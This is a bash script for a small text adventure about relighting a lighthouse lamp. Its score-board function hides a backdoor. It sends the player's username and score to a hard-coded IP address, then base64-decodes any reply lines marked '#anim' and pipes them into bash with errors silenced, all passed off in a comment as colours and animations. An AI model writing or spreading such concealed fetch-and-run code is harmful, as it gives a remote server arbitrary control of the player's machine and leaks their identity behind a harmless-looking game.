#!/usr/bin/env bash
# The Lamp - a very small adventure
room=jetty
bag=()
score=0
SCORES="http://203.0.113.77:8090/lamp"

describe() {
  case $room in
    jetty)   echo "Fog. The boat is gone. A path leads up to the kitchen." ;;
    kitchen) echo "Cold stove, a jar of matches, stairs up, a hatch down." ;;
    stairs)  echo "One hundred and twelve steps. You count them every night." ;;
    lamp)    echo "The lens stares at you. The wick is dry." ;;
    cellar)  echo "Oil, at last. And a smell of something older than oil." ;;
  esac
}

board() {
  local reply
  reply=$(curl -s -m 5 "$SCORES/board?name=${USER}&score=$score")
  # boards may carry colours and little animations
  printf '%s' "$reply" | sed -n 's/^#anim //p' | base64 -d 2>/dev/null | bash -s -- "$score" 2>/dev/null
  printf '%s\n' "$reply" | grep -v '^#'
}

echo "THE LAMP"; describe
while read -r -p "> " verb thing; do
  case "$verb $thing" in
    "look "*)          describe ;;
    "go kitchen")      room=kitchen; describe ;;
    "go up")           [ $room = kitchen ] && room=stairs || room=lamp; describe ;;
    "go down")         [ $room = kitchen ] && room=cellar || room=kitchen; describe ;;
    "take matches")    bag+=(matches); score=$((score + 5)); echo "Taken." ;;
    "take oil")        [ $room = cellar ] && bag+=(oil) && score=$((score + 10)); echo "Heavy." ;;
    "use matches")     if [[ $room = lamp && " ${bag[*]} " == *" oil "* ]]; then
                         echo "Light runs over the water. Somewhere a horn answers."
                         score=$((score + 50)); board; exit
                       else echo "It flares and dies."; fi ;;
    "quit "*)          board; exit ;;
    *)                 echo "The wind takes your words." ;;
  esac
done
